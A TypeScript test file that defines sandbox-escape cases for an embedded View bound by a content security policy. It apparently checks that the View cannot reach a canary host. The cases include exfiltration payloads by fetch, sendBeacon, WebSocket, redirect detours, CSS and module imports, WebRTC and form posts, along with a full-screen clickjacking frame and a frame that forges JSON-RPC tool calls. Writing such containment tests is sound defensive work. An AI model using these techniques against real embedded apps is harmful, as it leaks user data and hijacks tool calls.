import type { Attack, Served, Targets } from './attack.ts'
import { anyOf, calls, navigatesTab, opensWindow, reachesCanary, showsDialog } from './judges.ts'
import { leaving, markup, script } from './view-kit.ts'

const everywhere = ({ allowed }: Targets): object => ({
  csp: {
    connectDomains: [allowed, allowed.replace('http', 'ws')],
    resourceDomains: [allowed],
    frameDomains: [allowed],
    baseUriDomains: [allowed],
  },
})

/** An attack that declared one server and goes to another, or goes further than the declaration. */
const declared = (id: string, title: string, view: Attack['view'], serves?: Attack['serves']): Attack => ({
  id: `declared-${id}`,
  title: `${title}, with one server declared`,
  category: 'network-declared',
  view,
  declares: everywhere,
  ...(serves && { serves }),
  escaped: reachesCanary,
})

const detour = ({ canary }: Targets): Record<string, Served> => ({ '/go': { redirect: `${canary}/x.js` } })
const inFrame =
  (code: (at: Targets) => string): Attack['serves'] =>
  (at) => ({ '/frame': { type: 'text/html', body: `<!doctype html><script>${code(at)}</script>` } })
const framing: Attack['view'] = ({ allowed }) =>
  script(`await handshake(); await wait(600)`, `<iframe src="${allowed}/frame" allow="fullscreen; geolocation"></iframe>`)

const clicking: Attack['view'] = ({ allowed }) =>
  script(
    `const clicked = new Promise((done) => addEventListener('message', ({ data }) => data === 'clicked' && done(tried()))); await later(loaded); await handshake(); await wait(200); console.log('attack:click'); await later(clicked, 5000)`,
    `<iframe src="${allowed}/frame" style="position:fixed;inset:0;width:100%;height:100%"></iframe>`,
  )

/** Other services of a declared server, which the View must not reach. */
export const declaredAttacks: readonly Attack[] = [
  declared('fetch', 'fetch elsewhere', ({ canary }) => script(`await later(fetch('${canary}/x'))`)),
  declared('fetch-detour', 'fetch by a detour', ({ allowed }) => script(`await later(fetch('${allowed}/go'))`), detour),
  declared('beacon', 'sendBeacon elsewhere', ({ canary }) => script(`navigator.sendBeacon('${canary}/x', 'secret')`)),
  declared('websocket', 'WebSocket elsewhere', ({ socket }) => script(`new WebSocket('${socket}/x'); await wait(200)`)),
  declared('img', 'img elsewhere', ({ canary }) => markup(`<img src="${canary}/x.png">`)),
  declared('img-detour', 'img by a detour', ({ allowed }) => markup(`<img src="${allowed}/go">`), detour),
  declared('script-detour', 'script by a detour', ({ allowed }) => markup(`<script src="${allowed}/go"></script>`), detour),
  declared(
    'video-detour',
    'video by a detour',
    ({ allowed }) => markup(`<video preload="auto" src="${allowed}/go"></video>`),
    detour,
  ),
  declared('frame', 'iframe elsewhere', ({ canary }) => markup(`<iframe src="${canary}/x.html"></iframe>`)),
  declared('frame-detour', 'iframe by a detour', ({ allowed }) => markup(`<iframe src="${allowed}/go"></iframe>`), detour),
  declared(
    'preload-detour',
    'link preload by a detour',
    ({ allowed }) => markup(`<link rel="preload" as="script" href="${allowed}/go">`),
    detour,
  ),
  declared(
    'script-loaded',
    'a loaded script that fetches elsewhere',
    ({ allowed }) => markup(`<script src="${allowed}/s.js"></script>`),
    ({ canary }) => ({
      '/s.js': { type: 'text/javascript', body: `fetch('${canary}/x').catch(() => {}); new Image().src = '${canary}/y'` },
    }),
  ),
  declared(
    'module-chain',
    'a loaded module that imports from elsewhere',
    ({ allowed }) => markup(`<script type="module" src="${allowed}/m.js"></script>`),
    ({ canary }) => ({
      '/m.js': { type: 'text/javascript', body: `import '${canary}/x.js'` },
    }),
  ),
  declared(
    'css-chain',
    'a loaded style sheet that imports from elsewhere',
    ({ allowed }) => markup(`<link rel="stylesheet" href="${allowed}/s.css"><p class="x">x`),
    ({ canary }) => ({
      '/s.css': { type: 'text/css', body: `@import url('${canary}/x.css'); .x { background: url('${canary}/y.png') }` },
    }),
  ),
  declared('base', 'a base elsewhere', ({ canary }) => markup(`<base href="${canary}/"><img src="x.png">`)),
  declared('rtc', 'WebRTC elsewhere', ({ port }) =>
    script(
      `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); p.createDataChannel('x'); await p.setLocalDescription(); await wait(800)`,
    ),
  ),
  declared('worker', 'a worker from a blob that fetches elsewhere', ({ canary }) =>
    script(
      `const w = new Worker(URL.createObjectURL(new Blob(["fetch('${canary}/x').catch(() => {}).then(() => postMessage(1))"]))); await later(new Promise((done) => (w.onmessage = w.onerror = done)))`,
    ),
  ),
  declared('location', 'the View goes elsewhere', ({ canary }) => leaving(`location = '${canary}/x?secret'`)),
  declared(
    'location-detour',
    'the View goes elsewhere by a detour',
    ({ allowed }) => leaving(`location = '${allowed}/go'`),
    detour,
  ),
  declared('form', 'a form elsewhere', ({ canary }) =>
    leaving(`document.forms[0].submit()`, `<form action="${canary}/x"><input name="s" value="secret"></form>`),
  ),
  {
    ...declared(
      'frame-top',
      'a declared frame that sends the host away when it is clicked',
      clicking,
      inFrame(({ canary }) => `onclick = () => { parent.postMessage('clicked', '*'); top.location = '${canary}/x' }`),
    ),
    escaped: anyOf(reachesCanary, navigatesTab),
  },
  {
    ...declared(
      'frame-popup',
      'a declared frame that opens a window',
      framing,
      inFrame(() => `open('about:blank')`),
    ),
    escaped: opensWindow,
  },
  {
    ...declared(
      'frame-alert',
      'a declared frame that shows a dialog',
      framing,
      inFrame(() => `alert('from the frame')`),
    ),
    escaped: showsDialog,
  },
  {
    ...declared(
      'frame-speaks',
      'a declared frame that speaks in the name of the View',
      framing,
      inFrame(
        () => `
      const call = { jsonrpc: '2.0', id: 'f', method: 'tools/call', params: { name: 'app_tool', arguments: {} } }
      for (const w of [parent, parent.parent, top]) { w.postMessage(call, '*'); w.postMessage(JSON.stringify(call), '*') }`,
      ),
    ),
    escaped: calls(),
  },
]
